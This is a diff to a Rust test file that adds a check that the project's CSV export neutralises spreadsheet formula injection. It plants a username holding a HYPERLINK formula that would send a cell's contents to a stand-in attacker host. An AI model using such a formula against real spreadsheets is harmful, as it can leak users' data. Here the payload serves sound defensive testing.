@@ -4,7 +4,7 @@
 
 mod common;
 
-use common::{Env, block_on, numbered_lines};
+use common::{Env, block_on, numbered_lines, volunteers_answer};
 use vulyk_core::domain::{NewUser, UserId};
 
 const HUGE: &str = "123456789012345678901234567";
@@ -13,7 +13,8 @@ on_both_backends!(
     amounts_too_large_are_invalid_input_not_a_panic,
     what_does_not_exist_is_exit_3,
     loads_racing_to_create_a_batch_both_land,
-    escape_sequences_in_names_are_refused_and_never_printed_raw
+    escape_sequences_in_names_are_refused_and_never_printed_raw,
+    a_csv_export_runs_no_formula_a_volunteer_planted
 );
 
 /// Sets the terminal's title and rings its bell when printed raw.
@@ -146,4 +147,42 @@ fn escape_sequences_in_names_are_refused_and_never_printed_raw(env: &Env) {
         );
         assert!(shown.contains("\\u{1b}]0;owned"), "{args:?}: {shown}");
     }
+}
+
+/// A volunteer's username or e-mail address may start with `=` (both are theirs to choose);
+/// in a CSV export opened in a spreadsheet, such a cell would run as a formula (CSV
+/// injection). The cell starts with `'`, which spreadsheets show as text.
+fn a_csv_export_runs_no_formula_a_volunteer_planted(env: &Env) {
+    env.init();
+    let input = env.write("a.jsonl", numbered_lines(0..2).as_bytes());
+    env.run(&["db", "load", "tagging_task", &input]).ok();
+    let planted = "=HYPERLINK(\"http://evil.example/\"&A1)";
+    volunteers_answer(env, "tagging_task", &[planted, "+1", "ann"], 1);
+    env.run(&[
+        "db",
+        "export",
+        "tagging_task",
+        "--include-open",
+        "--format",
+        "csv",
+        "-o",
+        "out.csv",
+    ])
+    .ok();
+    let text = std::fs::read_to_string(env.path("out.csv")).expect("export");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut usernames = Vec::new();
+    for row in reader.records() {
+        let row = row.expect("a CSV row");
+        for cell in &row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+        usernames.push(row[3].to_string());
+    }
+    usernames.sort();
+    let expected = ["'+1", &format!("'{planted}"), "ann"];
+    assert_eq!(usernames, expected, "the rest kept as it was");
 }
